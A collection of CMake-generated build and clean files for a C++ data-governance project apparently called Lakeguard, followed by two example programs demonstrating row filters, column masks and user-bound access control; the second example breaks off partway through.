