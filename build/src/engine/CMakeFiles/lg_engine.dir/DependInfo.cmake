
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/engine/analyzer.cc" "src/engine/CMakeFiles/lg_engine.dir/analyzer.cc.o" "gcc" "src/engine/CMakeFiles/lg_engine.dir/analyzer.cc.o.d"
  "/root/repo/src/engine/engine.cc" "src/engine/CMakeFiles/lg_engine.dir/engine.cc.o" "gcc" "src/engine/CMakeFiles/lg_engine.dir/engine.cc.o.d"
  "/root/repo/src/engine/executor.cc" "src/engine/CMakeFiles/lg_engine.dir/executor.cc.o" "gcc" "src/engine/CMakeFiles/lg_engine.dir/executor.cc.o.d"
  "/root/repo/src/engine/extensions.cc" "src/engine/CMakeFiles/lg_engine.dir/extensions.cc.o" "gcc" "src/engine/CMakeFiles/lg_engine.dir/extensions.cc.o.d"
  "/root/repo/src/engine/optimizer.cc" "src/engine/CMakeFiles/lg_engine.dir/optimizer.cc.o" "gcc" "src/engine/CMakeFiles/lg_engine.dir/optimizer.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sql/CMakeFiles/lg_sql.dir/DependInfo.cmake"
  "/root/repo/build/src/plan/CMakeFiles/lg_plan.dir/DependInfo.cmake"
  "/root/repo/build/src/sandbox/CMakeFiles/lg_sandbox.dir/DependInfo.cmake"
  "/root/repo/build/src/catalog/CMakeFiles/lg_catalog.dir/DependInfo.cmake"
  "/root/repo/build/src/storage/CMakeFiles/lg_storage.dir/DependInfo.cmake"
  "/root/repo/build/src/udf/CMakeFiles/lg_udf.dir/DependInfo.cmake"
  "/root/repo/build/src/expr/CMakeFiles/lg_expr.dir/DependInfo.cmake"
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
