file(REMOVE_RECURSE
  "CMakeFiles/lg_engine.dir/analyzer.cc.o"
  "CMakeFiles/lg_engine.dir/analyzer.cc.o.d"
  "CMakeFiles/lg_engine.dir/engine.cc.o"
  "CMakeFiles/lg_engine.dir/engine.cc.o.d"
  "CMakeFiles/lg_engine.dir/executor.cc.o"
  "CMakeFiles/lg_engine.dir/executor.cc.o.d"
  "CMakeFiles/lg_engine.dir/extensions.cc.o"
  "CMakeFiles/lg_engine.dir/extensions.cc.o.d"
  "CMakeFiles/lg_engine.dir/optimizer.cc.o"
  "CMakeFiles/lg_engine.dir/optimizer.cc.o.d"
  "liblg_engine.a"
  "liblg_engine.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_engine.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
