# Empty dependencies file for lg_plan.
# This may be replaced when dependencies are built.
