file(REMOVE_RECURSE
  "liblg_plan.a"
)
