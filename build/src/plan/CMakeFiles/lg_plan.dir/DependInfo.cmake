
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/plan/plan.cc" "src/plan/CMakeFiles/lg_plan.dir/plan.cc.o" "gcc" "src/plan/CMakeFiles/lg_plan.dir/plan.cc.o.d"
  "/root/repo/src/plan/plan_serde.cc" "src/plan/CMakeFiles/lg_plan.dir/plan_serde.cc.o" "gcc" "src/plan/CMakeFiles/lg_plan.dir/plan_serde.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/expr/CMakeFiles/lg_expr.dir/DependInfo.cmake"
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
