file(REMOVE_RECURSE
  "CMakeFiles/lg_plan.dir/plan.cc.o"
  "CMakeFiles/lg_plan.dir/plan.cc.o.d"
  "CMakeFiles/lg_plan.dir/plan_serde.cc.o"
  "CMakeFiles/lg_plan.dir/plan_serde.cc.o.d"
  "liblg_plan.a"
  "liblg_plan.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_plan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
