file(REMOVE_RECURSE
  "CMakeFiles/lg_cluster.dir/cluster.cc.o"
  "CMakeFiles/lg_cluster.dir/cluster.cc.o.d"
  "CMakeFiles/lg_cluster.dir/slot_pool.cc.o"
  "CMakeFiles/lg_cluster.dir/slot_pool.cc.o.d"
  "liblg_cluster.a"
  "liblg_cluster.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_cluster.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
