# Empty dependencies file for lg_cluster.
# This may be replaced when dependencies are built.
