file(REMOVE_RECURSE
  "liblg_cluster.a"
)
