file(REMOVE_RECURSE
  "liblg_serverless.a"
)
