# Empty dependencies file for lg_serverless.
# This may be replaced when dependencies are built.
