file(REMOVE_RECURSE
  "CMakeFiles/lg_serverless.dir/gateway.cc.o"
  "CMakeFiles/lg_serverless.dir/gateway.cc.o.d"
  "CMakeFiles/lg_serverless.dir/workload_env.cc.o"
  "CMakeFiles/lg_serverless.dir/workload_env.cc.o.d"
  "liblg_serverless.a"
  "liblg_serverless.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_serverless.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
