# Empty compiler generated dependencies file for lg_catalog.
# This may be replaced when dependencies are built.
