file(REMOVE_RECURSE
  "liblg_catalog.a"
)
