file(REMOVE_RECURSE
  "CMakeFiles/lg_catalog.dir/audit.cc.o"
  "CMakeFiles/lg_catalog.dir/audit.cc.o.d"
  "CMakeFiles/lg_catalog.dir/principal.cc.o"
  "CMakeFiles/lg_catalog.dir/principal.cc.o.d"
  "CMakeFiles/lg_catalog.dir/unity_catalog.cc.o"
  "CMakeFiles/lg_catalog.dir/unity_catalog.cc.o.d"
  "liblg_catalog.a"
  "liblg_catalog.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_catalog.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
