# Empty dependencies file for lg_sql.
# This may be replaced when dependencies are built.
