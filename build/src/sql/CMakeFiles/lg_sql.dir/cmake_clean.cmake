file(REMOVE_RECURSE
  "CMakeFiles/lg_sql.dir/lexer.cc.o"
  "CMakeFiles/lg_sql.dir/lexer.cc.o.d"
  "CMakeFiles/lg_sql.dir/parser.cc.o"
  "CMakeFiles/lg_sql.dir/parser.cc.o.d"
  "liblg_sql.a"
  "liblg_sql.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_sql.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
