
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sql/lexer.cc" "src/sql/CMakeFiles/lg_sql.dir/lexer.cc.o" "gcc" "src/sql/CMakeFiles/lg_sql.dir/lexer.cc.o.d"
  "/root/repo/src/sql/parser.cc" "src/sql/CMakeFiles/lg_sql.dir/parser.cc.o" "gcc" "src/sql/CMakeFiles/lg_sql.dir/parser.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/plan/CMakeFiles/lg_plan.dir/DependInfo.cmake"
  "/root/repo/build/src/expr/CMakeFiles/lg_expr.dir/DependInfo.cmake"
  "/root/repo/build/src/columnar/CMakeFiles/lg_columnar.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
