file(REMOVE_RECURSE
  "liblg_sql.a"
)
