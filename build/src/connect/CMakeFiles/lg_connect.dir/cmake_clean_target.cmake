file(REMOVE_RECURSE
  "liblg_connect.a"
)
