file(REMOVE_RECURSE
  "CMakeFiles/lg_connect.dir/client.cc.o"
  "CMakeFiles/lg_connect.dir/client.cc.o.d"
  "CMakeFiles/lg_connect.dir/protocol.cc.o"
  "CMakeFiles/lg_connect.dir/protocol.cc.o.d"
  "CMakeFiles/lg_connect.dir/service.cc.o"
  "CMakeFiles/lg_connect.dir/service.cc.o.d"
  "liblg_connect.a"
  "liblg_connect.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_connect.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
