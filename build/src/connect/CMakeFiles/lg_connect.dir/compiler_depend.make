# Empty compiler generated dependencies file for lg_connect.
# This may be replaced when dependencies are built.
