# Empty dependencies file for lg_baselines.
# This may be replaced when dependencies are built.
