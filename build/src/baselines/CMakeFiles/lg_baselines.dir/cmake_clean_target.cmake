file(REMOVE_RECURSE
  "liblg_baselines.a"
)
