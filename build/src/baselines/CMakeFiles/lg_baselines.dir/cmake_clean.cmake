file(REMOVE_RECURSE
  "CMakeFiles/lg_baselines.dir/capabilities.cc.o"
  "CMakeFiles/lg_baselines.dir/capabilities.cc.o.d"
  "CMakeFiles/lg_baselines.dir/membrane.cc.o"
  "CMakeFiles/lg_baselines.dir/membrane.cc.o.d"
  "liblg_baselines.a"
  "liblg_baselines.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_baselines.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
