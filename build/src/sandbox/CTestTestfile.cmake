# CMake generated Testfile for 
# Source directory: /root/repo/src/sandbox
# Build directory: /root/repo/build/src/sandbox
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
