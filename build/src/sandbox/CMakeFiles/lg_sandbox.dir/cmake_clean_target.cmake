file(REMOVE_RECURSE
  "liblg_sandbox.a"
)
