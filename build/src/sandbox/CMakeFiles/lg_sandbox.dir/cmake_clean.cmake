file(REMOVE_RECURSE
  "CMakeFiles/lg_sandbox.dir/dispatcher.cc.o"
  "CMakeFiles/lg_sandbox.dir/dispatcher.cc.o.d"
  "CMakeFiles/lg_sandbox.dir/host_env.cc.o"
  "CMakeFiles/lg_sandbox.dir/host_env.cc.o.d"
  "CMakeFiles/lg_sandbox.dir/sandbox.cc.o"
  "CMakeFiles/lg_sandbox.dir/sandbox.cc.o.d"
  "liblg_sandbox.a"
  "liblg_sandbox.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_sandbox.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
