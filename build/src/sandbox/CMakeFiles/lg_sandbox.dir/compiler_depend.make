# Empty compiler generated dependencies file for lg_sandbox.
# This may be replaced when dependencies are built.
