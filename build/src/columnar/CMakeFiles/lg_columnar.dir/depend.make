# Empty dependencies file for lg_columnar.
# This may be replaced when dependencies are built.
