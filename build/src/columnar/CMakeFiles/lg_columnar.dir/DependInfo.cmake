
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/columnar/column.cc" "src/columnar/CMakeFiles/lg_columnar.dir/column.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/column.cc.o.d"
  "/root/repo/src/columnar/ipc.cc" "src/columnar/CMakeFiles/lg_columnar.dir/ipc.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/ipc.cc.o.d"
  "/root/repo/src/columnar/record_batch.cc" "src/columnar/CMakeFiles/lg_columnar.dir/record_batch.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/record_batch.cc.o.d"
  "/root/repo/src/columnar/table.cc" "src/columnar/CMakeFiles/lg_columnar.dir/table.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/table.cc.o.d"
  "/root/repo/src/columnar/types.cc" "src/columnar/CMakeFiles/lg_columnar.dir/types.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/types.cc.o.d"
  "/root/repo/src/columnar/value.cc" "src/columnar/CMakeFiles/lg_columnar.dir/value.cc.o" "gcc" "src/columnar/CMakeFiles/lg_columnar.dir/value.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/lg_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
