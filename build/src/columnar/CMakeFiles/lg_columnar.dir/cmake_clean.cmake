file(REMOVE_RECURSE
  "CMakeFiles/lg_columnar.dir/column.cc.o"
  "CMakeFiles/lg_columnar.dir/column.cc.o.d"
  "CMakeFiles/lg_columnar.dir/ipc.cc.o"
  "CMakeFiles/lg_columnar.dir/ipc.cc.o.d"
  "CMakeFiles/lg_columnar.dir/record_batch.cc.o"
  "CMakeFiles/lg_columnar.dir/record_batch.cc.o.d"
  "CMakeFiles/lg_columnar.dir/table.cc.o"
  "CMakeFiles/lg_columnar.dir/table.cc.o.d"
  "CMakeFiles/lg_columnar.dir/types.cc.o"
  "CMakeFiles/lg_columnar.dir/types.cc.o.d"
  "CMakeFiles/lg_columnar.dir/value.cc.o"
  "CMakeFiles/lg_columnar.dir/value.cc.o.d"
  "liblg_columnar.a"
  "liblg_columnar.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_columnar.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
