file(REMOVE_RECURSE
  "liblg_columnar.a"
)
