file(REMOVE_RECURSE
  "liblg_common.a"
)
