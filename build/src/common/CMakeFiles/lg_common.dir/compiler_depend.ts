# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for lg_common.
