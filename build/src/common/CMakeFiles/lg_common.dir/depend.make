# Empty dependencies file for lg_common.
# This may be replaced when dependencies are built.
