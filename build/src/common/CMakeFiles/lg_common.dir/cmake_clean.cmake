file(REMOVE_RECURSE
  "CMakeFiles/lg_common.dir/clock.cc.o"
  "CMakeFiles/lg_common.dir/clock.cc.o.d"
  "CMakeFiles/lg_common.dir/id.cc.o"
  "CMakeFiles/lg_common.dir/id.cc.o.d"
  "CMakeFiles/lg_common.dir/logging.cc.o"
  "CMakeFiles/lg_common.dir/logging.cc.o.d"
  "CMakeFiles/lg_common.dir/serde.cc.o"
  "CMakeFiles/lg_common.dir/serde.cc.o.d"
  "CMakeFiles/lg_common.dir/sha256.cc.o"
  "CMakeFiles/lg_common.dir/sha256.cc.o.d"
  "CMakeFiles/lg_common.dir/status.cc.o"
  "CMakeFiles/lg_common.dir/status.cc.o.d"
  "CMakeFiles/lg_common.dir/strings.cc.o"
  "CMakeFiles/lg_common.dir/strings.cc.o.d"
  "liblg_common.a"
  "liblg_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
