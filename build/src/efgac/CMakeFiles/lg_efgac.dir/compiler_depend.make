# Empty compiler generated dependencies file for lg_efgac.
# This may be replaced when dependencies are built.
