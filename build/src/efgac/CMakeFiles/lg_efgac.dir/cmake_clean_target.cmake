file(REMOVE_RECURSE
  "liblg_efgac.a"
)
