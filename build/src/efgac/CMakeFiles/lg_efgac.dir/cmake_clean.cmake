file(REMOVE_RECURSE
  "CMakeFiles/lg_efgac.dir/rewriter.cc.o"
  "CMakeFiles/lg_efgac.dir/rewriter.cc.o.d"
  "CMakeFiles/lg_efgac.dir/serverless_backend.cc.o"
  "CMakeFiles/lg_efgac.dir/serverless_backend.cc.o.d"
  "liblg_efgac.a"
  "liblg_efgac.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/lg_efgac.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
