# Empty compiler generated dependencies file for multiuser_notebooks.
# This may be replaced when dependencies are built.
