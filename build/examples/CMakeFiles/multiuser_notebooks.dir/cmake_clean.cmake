file(REMOVE_RECURSE
  "CMakeFiles/multiuser_notebooks.dir/multiuser_notebooks.cpp.o"
  "CMakeFiles/multiuser_notebooks.dir/multiuser_notebooks.cpp.o.d"
  "multiuser_notebooks"
  "multiuser_notebooks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/multiuser_notebooks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
