file(REMOVE_RECURSE
  "CMakeFiles/versionless_etl.dir/versionless_etl.cpp.o"
  "CMakeFiles/versionless_etl.dir/versionless_etl.cpp.o.d"
  "versionless_etl"
  "versionless_etl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/versionless_etl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
