# Empty dependencies file for versionless_etl.
# This may be replaced when dependencies are built.
