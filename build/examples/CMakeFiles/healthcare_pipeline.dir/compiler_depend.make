# Empty compiler generated dependencies file for healthcare_pipeline.
# This may be replaced when dependencies are built.
