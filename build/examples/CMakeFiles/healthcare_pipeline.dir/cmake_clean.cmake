file(REMOVE_RECURSE
  "CMakeFiles/healthcare_pipeline.dir/healthcare_pipeline.cpp.o"
  "CMakeFiles/healthcare_pipeline.dir/healthcare_pipeline.cpp.o.d"
  "healthcare_pipeline"
  "healthcare_pipeline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/healthcare_pipeline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
