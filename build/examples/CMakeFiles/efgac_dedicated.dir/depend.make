# Empty dependencies file for efgac_dedicated.
# This may be replaced when dependencies are built.
