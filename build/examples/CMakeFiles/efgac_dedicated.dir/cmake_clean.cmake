file(REMOVE_RECURSE
  "CMakeFiles/efgac_dedicated.dir/efgac_dedicated.cpp.o"
  "CMakeFiles/efgac_dedicated.dir/efgac_dedicated.cpp.o.d"
  "efgac_dedicated"
  "efgac_dedicated.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/efgac_dedicated.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
