# Empty dependencies file for bench_connect_protocol.
# This may be replaced when dependencies are built.
