file(REMOVE_RECURSE
  "CMakeFiles/bench_connect_protocol.dir/bench_connect_protocol.cc.o"
  "CMakeFiles/bench_connect_protocol.dir/bench_connect_protocol.cc.o.d"
  "bench_connect_protocol"
  "bench_connect_protocol.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_connect_protocol.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
