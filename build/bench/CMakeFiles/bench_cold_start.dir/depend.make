# Empty dependencies file for bench_cold_start.
# This may be replaced when dependencies are built.
