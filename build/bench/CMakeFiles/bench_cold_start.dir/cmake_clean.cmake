file(REMOVE_RECURSE
  "CMakeFiles/bench_cold_start.dir/bench_cold_start.cc.o"
  "CMakeFiles/bench_cold_start.dir/bench_cold_start.cc.o.d"
  "bench_cold_start"
  "bench_cold_start.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_cold_start.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
