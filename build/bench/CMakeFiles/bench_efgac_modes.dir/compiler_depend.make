# Empty compiler generated dependencies file for bench_efgac_modes.
# This may be replaced when dependencies are built.
