file(REMOVE_RECURSE
  "CMakeFiles/bench_efgac_modes.dir/bench_efgac_modes.cc.o"
  "CMakeFiles/bench_efgac_modes.dir/bench_efgac_modes.cc.o.d"
  "bench_efgac_modes"
  "bench_efgac_modes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_efgac_modes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
