file(REMOVE_RECURSE
  "CMakeFiles/bench_fusion_ablation.dir/bench_fusion_ablation.cc.o"
  "CMakeFiles/bench_fusion_ablation.dir/bench_fusion_ablation.cc.o.d"
  "bench_fusion_ablation"
  "bench_fusion_ablation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fusion_ablation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
