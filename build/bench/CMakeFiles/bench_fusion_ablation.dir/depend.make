# Empty dependencies file for bench_fusion_ablation.
# This may be replaced when dependencies are built.
