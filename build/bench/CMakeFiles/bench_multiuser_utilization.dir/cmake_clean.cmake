file(REMOVE_RECURSE
  "CMakeFiles/bench_multiuser_utilization.dir/bench_multiuser_utilization.cc.o"
  "CMakeFiles/bench_multiuser_utilization.dir/bench_multiuser_utilization.cc.o.d"
  "bench_multiuser_utilization"
  "bench_multiuser_utilization.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_multiuser_utilization.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
