# Empty dependencies file for bench_multiuser_utilization.
# This may be replaced when dependencies are built.
