# Empty compiler generated dependencies file for bench_engine_core.
# This may be replaced when dependencies are built.
