file(REMOVE_RECURSE
  "CMakeFiles/bench_engine_core.dir/bench_engine_core.cc.o"
  "CMakeFiles/bench_engine_core.dir/bench_engine_core.cc.o.d"
  "bench_engine_core"
  "bench_engine_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_engine_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
