# Empty compiler generated dependencies file for bench_table2_udf_overhead.
# This may be replaced when dependencies are built.
