file(REMOVE_RECURSE
  "CMakeFiles/bench_table2_udf_overhead.dir/bench_table2_udf_overhead.cc.o"
  "CMakeFiles/bench_table2_udf_overhead.dir/bench_table2_udf_overhead.cc.o.d"
  "bench_table2_udf_overhead"
  "bench_table2_udf_overhead.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table2_udf_overhead.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
