// Quickstart: stand up a Lakeguard platform, govern a table with a row
// filter and a column mask, and query it as two different users through the
// Spark Connect client (Fig. 5 flow + Fig. 2 user-bound credentials).
//
// Run: build/examples/quickstart

#include <cstdio>
#include <iostream>

#include "core/platform.h"
#include "sql/parser.h"

using namespace lakeguard;  // NOLINT — example brevity

#define CHECK_OK(expr)                                          \
  do {                                                          \
    auto _s = (expr);                                           \
    if (!_s.ok()) {                                             \
      std::cerr << "FATAL at " << __LINE__ << ": "              \
                << _s.ToString() << "\n";                       \
      return 1;                                                 \
    }                                                           \
  } while (false)

#define CHECK_VALUE(var, expr)                                  \
  auto var##_result = (expr);                                   \
  if (!var##_result.ok()) {                                     \
    std::cerr << "FATAL at " << __LINE__ << ": "                \
              << var##_result.status().ToString() << "\n";      \
    return 1;                                                   \
  }                                                             \
  [[maybe_unused]] auto& var = *var##_result

int main() {
  LakeguardPlatform platform;

  // ---- Principals ------------------------------------------------------------
  CHECK_OK(platform.AddUser("admin"));
  CHECK_OK(platform.AddUser("alice"));   // US analyst
  CHECK_OK(platform.AddUser("bob"));     // global sales group member
  CHECK_OK(platform.AddGroup("global_sales"));
  CHECK_OK(platform.AddUserToGroup("bob", "global_sales"));
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-alice", "alice");
  platform.RegisterToken("tok-bob", "bob");

  // ---- Governance setup (admin) -----------------------------------------------
  UnityCatalog& catalog = platform.catalog();
  CHECK_OK(catalog.CreateCatalog("admin", "main"));
  CHECK_OK(catalog.CreateSchema("admin", "main.sales"));

  ClusterHandle* cluster = platform.CreateStandardCluster();
  CHECK_VALUE(admin, platform.Connect(cluster, "tok-admin"));

  CHECK_VALUE(created, admin.Sql(
      "CREATE TABLE main.sales.orders ("
      "  region STRING, amount BIGINT, order_date STRING, seller STRING)"));
  CHECK_VALUE(inserted, admin.Sql(
      "INSERT INTO main.sales.orders VALUES "
      "('US', 120, '2024-12-01', 'ann'), "
      "('US', 340, '2024-12-01', 'joe'), "
      "('EU', 75, '2024-12-01', 'zoe'), "
      "('EU', 410, '2024-12-02', 'max'), "
      "('APAC', 990, '2024-12-02', 'kim')"));
  std::cout << "setup: " << inserted.ToString();

  // Row filter: non-members of global_sales see only US rows.
  CHECK_VALUE(rf, admin.Sql(
      "ALTER TABLE main.sales.orders SET ROW FILTER "
      "(region = 'US' OR IS_ACCOUNT_GROUP_MEMBER('global_sales'))"));
  // Column mask: the seller name is masked for everyone but the owner team.
  CHECK_VALUE(cm, admin.Sql(
      "ALTER TABLE main.sales.orders ALTER COLUMN seller SET MASK "
      "(MASK(seller))"));

  // Grants: both analysts may SELECT; permissions are user-bound.
  CHECK_VALUE(g1, admin.Sql("GRANT USE CATALOG ON main TO alice"));
  CHECK_VALUE(g2, admin.Sql("GRANT USE SCHEMA ON main.sales TO alice"));
  CHECK_VALUE(g3, admin.Sql("GRANT SELECT ON main.sales.orders TO alice"));
  CHECK_VALUE(g4, admin.Sql("GRANT USE CATALOG ON main TO global_sales"));
  CHECK_VALUE(g5, admin.Sql("GRANT USE SCHEMA ON main.sales TO global_sales"));
  CHECK_VALUE(g6,
              admin.Sql("GRANT SELECT ON main.sales.orders TO global_sales"));

  // ---- Alice: sees only US rows, masked sellers --------------------------------
  CHECK_VALUE(alice, platform.Connect(cluster, "tok-alice"));
  CHECK_VALUE(alice_rows, alice.Sql(
      "SELECT region, amount, seller FROM main.sales.orders ORDER BY amount"));
  std::cout << "\nalice (US analyst) sees:\n" << alice_rows.ToString();

  // ---- Bob: group member, sees everything (but still masked sellers) -----------
  CHECK_VALUE(bob, platform.Connect(cluster, "tok-bob"));
  CHECK_VALUE(bob_rows, bob.Sql(
      "SELECT region, SUM(amount) AS total FROM main.sales.orders "
      "GROUP BY region ORDER BY total DESC"));
  std::cout << "\nbob (global_sales) sees:\n" << bob_rows.ToString();

  // ---- DataFrame API over the same governed table -------------------------------
  CHECK_VALUE(df_rows, alice.ReadTable("main.sales.orders")
                           .Filter(BinOp(BinaryOpKind::kGt, Col("amount"),
                                         LitInt(100)))
                           .Select({Col("amount"), Col("seller")},
                                   {"amount", "seller"})
                           .Collect());
  std::cout << "\nalice DataFrame amount>100:\n" << df_rows.ToString();

  // ---- Everything was audited under the real user identity ---------------------
  std::cout << "\naudit events recorded: " << platform.catalog().audit().size()
            << " (denied: " << platform.catalog().audit().DeniedCount()
            << ")\n";

  CHECK_OK(alice.Close());
  CHECK_OK(bob.Close());
  CHECK_OK(admin.Close());
  std::cout << "\nquickstart finished OK\n";
  return 0;
}
