// External fine-grained access control on a Dedicated (privileged) cluster
// (§3.4, Fig. 8): the paper's exact query
//
//     SELECT amount, order_date, seller FROM sales
//     WHERE order_date = '2024-12-01'
//
// over a `sales` table whose row filter restricts non-members to US rows.
// On the Dedicated cluster the planner cannot see the filter predicate; the
// relation is rewritten into a remote filtered scan executed on Serverless
// Spark. This example prints all three plan stages of Fig. 8.
//
// Run: build/examples/efgac_dedicated

#include <iostream>

#include "core/platform.h"
#include "sql/parser.h"

using namespace lakeguard;  // NOLINT — example brevity

#define CHECK_OK(expr)                                                       \
  do {                                                                       \
    auto _s = (expr);                                                        \
    if (!_s.ok()) {                                                          \
      std::cerr << "FATAL at " << __LINE__ << ": " << _s.ToString() << "\n"; \
      return 1;                                                              \
    }                                                                        \
  } while (false)

#define CHECK_VALUE(var, expr)                                     \
  auto var##_result = (expr);                                      \
  if (!var##_result.ok()) {                                        \
    std::cerr << "FATAL at " << __LINE__ << ": "                   \
              << var##_result.status().ToString() << "\n";         \
    return 1;                                                      \
  }                                                                \
  [[maybe_unused]] auto& var = *var##_result

int main() {
  LakeguardPlatform platform;
  CHECK_OK(platform.AddUser("admin"));
  CHECK_OK(platform.AddUser("eve"));  // ML engineer on a GPU cluster
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-eve", "eve");

  UnityCatalog& catalog = platform.catalog();
  CHECK_OK(catalog.CreateCatalog("admin", "main"));
  CHECK_OK(catalog.CreateSchema("admin", "main.fin"));

  // Setup happens on a Standard cluster.
  ClusterHandle* setup = platform.CreateStandardCluster();
  CHECK_VALUE(admin, platform.Connect(setup, "tok-admin"));
  CHECK_VALUE(t, admin.Sql(
      "CREATE TABLE main.fin.sales ("
      "  region STRING, amount BIGINT, order_date STRING, seller STRING)"));
  CHECK_VALUE(i, admin.Sql(
      "INSERT INTO main.fin.sales VALUES "
      "('US', 120, '2024-12-01', 'ann'), ('US', 340, '2024-12-01', 'joe'), "
      "('EU', 75, '2024-12-01', 'zoe'), ('US', 55, '2024-12-02', 'ann'), "
      "('EU', 410, '2024-12-02', 'max')"));
